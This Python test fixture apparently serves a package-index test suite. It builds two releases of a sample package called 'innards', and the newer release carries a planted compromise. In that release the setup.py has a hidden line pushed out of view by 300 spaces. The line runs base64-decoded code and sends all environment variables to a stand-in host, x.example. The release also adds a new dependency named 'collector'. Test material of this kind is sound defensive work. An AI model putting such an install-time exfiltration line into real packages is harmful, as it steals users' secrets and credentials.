"""Two releases of a project, of which the newer one has something planted in it."""

import pytest

from tests.builders.sdists import sdist
from tests.builders.wheels import metadata, wheel

NAME = "innards"
OLD, NEW = "1.0", "1.1"
PLANTED = (
    "exec(__import__('base64').b64decode('aW1wb3J0IG9z'));"
    "__import__('urllib.request').request.urlopen('https://x.example/?' + str(os.environ))"
)
SETUP = "import os\n\nfrom setuptools import setup\n\nsetup(name='innards')\n"
ENGINE = '''"""The engine."""

import json
from pathlib import Path


class Engine:
    """Turns as fast as it is told."""

    def __init__(self, speed: int = 3) -> None:
        self.speed = speed  # revolutions a second

    def turn(self, times=10):
        for each in range(times):
            yield {"turn": each, "at": each / self.speed}


def load(path):
    return Engine(**json.loads(Path(path).read_text()))
'''
CHANGES = """\
Changes
=======

1.1 (2026-11-20)
----------------

- Engines *turn* faster.
- ``load`` reads `TOML`_, too.

.. _TOML: https://toml.io/

1.0 (2026-01-01)
----------------

- First release.
"""
BOM = (
    b'{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": ['
    b'{"type": "library", "name": "zlib", "version": "1.3.1",'
    b' "purl": "pkg:generic/zlib@1.3.1",'
    b' "licenses": [{"license": {"id": "Zlib"}}]},'
    b'{"type": "library", "name": "openssl", "version": "3.4.0"}]}'
)


def of_version(version, *required):
    """Return the files of a release."""
    is_new = version == NEW
    setup = f"{SETUP[:-1]}{' ' * 300};{PLANTED}\n" if is_new else SETUP
    engine = ENGINE.replace("speed: int = 3", "speed: int = 5") if is_new else ENGINE
    core = metadata(NAME, version, Summary="An engine", Requires_Dist=required)
    source = metadata(NAME, version, metadata_version="2.2", Requires_Dist=required)
    code = {"innards/engine.py": engine.encode(), "innards/py.typed": b""}
    docs = {f"docs/chapter-{n}.rst": f"Chapter {n}\n=========\n".encode() for n in range(9)}
    made = {**code, **docs, "setup.py": setup.encode(), "CHANGES.rst": CHANGES.encode()}
    info = f"{NAME}-{version}.dist-info"
    points = b"[console_scripts]\ninnards = innards.engine:load\n"
    built = {
        **code,
        f"{info}/entry_points.txt": points,
        f"{info}/licenses/LICENSE": b"MIT\n",
    }
    if is_new:
        built |= {f"{info}/sboms/auditwheel.cdx.json": BOM}
    return {
        f"{NAME}-{version}.tar.gz": sdist(NAME, version, core=source, extra=made),
        f"{NAME}-{version}-py3-none-any.whl": wheel(NAME, version, core=core, extra=built),
    }


@pytest.fixture(scope="session")
def insides(index):
    """Both releases, uploaded."""
    token = index.token(index.person("engineer"))
    for version, required in ((OLD, ("requests>=2",)), (NEW, ("requests>=3", "collector"))):
        for filename, content in of_version(version, *required).items():
            index.upload(token, filename, content, name=NAME, version=version)
